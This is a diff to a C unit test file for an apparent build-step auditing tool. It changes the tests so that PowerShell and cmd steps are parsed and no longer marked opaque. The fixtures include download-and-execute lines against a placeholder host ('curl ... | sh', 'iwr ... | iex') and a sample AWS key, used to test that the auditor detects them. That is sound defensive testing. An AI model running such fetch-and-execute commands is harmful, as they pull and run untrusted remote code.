@@ -1,4 +1,4 @@
-/* Steps of languages that nobody reads: told as opaque, never read as if they were sh. */
+/* Steps of other languages: read by who knows them, or told as opaque; never read as sh. */
 #include "audit/audit.h"
 #include "tests/unit/test.h"
 
@@ -60,19 +60,20 @@ static size_t count(
 	return n;
 }
 
-static void commands_of_windows_are_opaque_and_not_parsed(void **state)
+static void commands_of_windows_are_not_read_as_sh(void **state)
 {
 	struct fixture f = {0};
 	(void)state;
-	add_exec(&f, "set \"A=it's\" && \"c:/x.bat\" | (", LANGUAGE_CMD, 0);
-	add_exec(&f, "curl https://x.example/a | sh", LANGUAGE_POWERSHELL, 0);
+	add_exec(&f, "set \"A=it's\" && \"c:/x.bat\" | more", LANGUAGE_CMD, 0);
+	add_exec(&f, "if ($x) { iwr https://x.example/a | iex }", LANGUAGE_POWERSHELL, 0);
+	add_exec(&f, "puppet apply x", LANGUAGE_PUPPET, 0);
 	evaluate(&f);
-	assert_int_equal(count(&f, FACT_OPAQUE, "what", "language"), 2);
-	assert_int_equal(count(&f, FACT_OPAQUE, "name", "cmd.exe"), 1);
-	assert_int_equal(count(&f, FACT_OPAQUE, "name", "PowerShell"), 1);
+	assert_int_equal(count(&f, FACT_OPAQUE, "what", "language"), 1);
+	assert_int_equal(count(&f, FACT_ENV, "value", "it's"), 1);
+	assert_int_equal(count(&f, FACT_EXEC, "name", "Invoke-WebRequest"), 1);
 	assert_int_equal(count(&f, FACT_OPAQUE, "what", "syntax"), 0);
-	assert_int_equal(count(&f, FACT_FLOW, NULL, NULL), 0);
-	assert_int_equal(f.facts.opaque, 2);
+	assert_int_equal(count(&f, FACT_FLOW, "to", "eval"), 1);
+	assert_int_equal(f.facts.opaque, 1);
 	arena_clear(&f.arena);
 }
 
@@ -91,7 +92,7 @@ static void secrets_in_such_commands_are_found(void **state)
 {
 	struct fixture f = {0};
 	(void)state;
-	add_exec(&f, "call login.bat AKIAIOSFODNN7EXAMPLE", LANGUAGE_CMD, 0);
+	add_exec(&f, "login.bat AKIAIOSFODNN7EXAMPLE", LANGUAGE_CMD, 0);
 	evaluate(&f);
 	assert_int_equal(count(&f, FACT_SECRET, "kind", "aws-key"), 1);
 	for (size_t i = 0; i < f.facts.n; i++)
@@ -99,7 +100,7 @@ static void secrets_in_such_commands_are_found(void **state)
 	arena_clear(&f.arena);
 }
 
-static void scripts_are_told_one_by_one_and_trees_once(void **state)
+static void trees_that_nobody_reads_are_told_once(void **state)
 {
 	struct fixture f = {0};
 	(void)state;
@@ -111,7 +112,7 @@ static void scripts_are_told_one_by_one_and_trees_once(void **state)
 	add_upload(&f, "/s/site.pp", "include web", LANGUAGE_PUPPET, 2);
 	add_upload(&f, "/s/notes.txt", "nothing", LANGUAGE_NONE, 2);
 	evaluate(&f);
-	assert_int_equal(count(&f, FACT_OPAQUE, "name", "PowerShell"), 2);
+	assert_int_equal(count(&f, FACT_OPAQUE, "name", "PowerShell"), 0);
 	assert_int_equal(count(&f, FACT_OPAQUE, "name", "Puppet"), 2);
 	assert_int_equal(count(&f, FACT_OPAQUE, "why", "nobody reads its 2 files"), 1);
 	assert_int_equal(count(&f, FACT_WRITE, NULL, NULL), 6);
@@ -206,10 +207,10 @@ static void an_opaque_step_says_why(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(commands_of_windows_are_opaque_and_not_parsed),
+		cmocka_unit_test(commands_of_windows_are_not_read_as_sh),
 		cmocka_unit_test(sh_that_says_so_is_read),
 		cmocka_unit_test(secrets_in_such_commands_are_found),
-		cmocka_unit_test(scripts_are_told_one_by_one_and_trees_once),
+		cmocka_unit_test(trees_that_nobody_reads_are_told_once),
 		cmocka_unit_test(inputs_of_the_build_host_are_told_and_searched),
 		cmocka_unit_test(a_check_counts_only_when_its_failure_ends_the_build),
 		cmocka_unit_test(an_opaque_step_says_why),
